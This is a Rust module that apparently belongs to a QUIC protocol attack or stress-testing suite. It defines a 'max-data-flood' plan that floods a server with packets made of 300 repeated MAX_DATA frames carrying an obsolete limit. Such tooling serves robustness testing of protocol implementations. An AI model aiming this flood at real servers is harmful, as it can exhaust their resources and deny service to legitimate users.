//! MAX_DATA frames without effect.

use courser_wire::{Frame, MaxData};

use crate::attack::{Plan, Victim};
use crate::encode;

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "max-data-flood",
    labels: &["A28", "A33"],
    summary: "packets full of MAX_DATA frames with obsolete limits",
    victim: Victim::Server,
    make: || Box::new(max_data_flood()),
};

fn max_data_flood() -> Crowd {
    let frame = encode(&Frame::MaxData(MaxData { limit: 1 }));
    Crowd::of_packets(2, BURST, move |_, _| vec![frame.repeat(300)])
}

/// Packets of one connection in one turn.
const BURST: usize = 16;
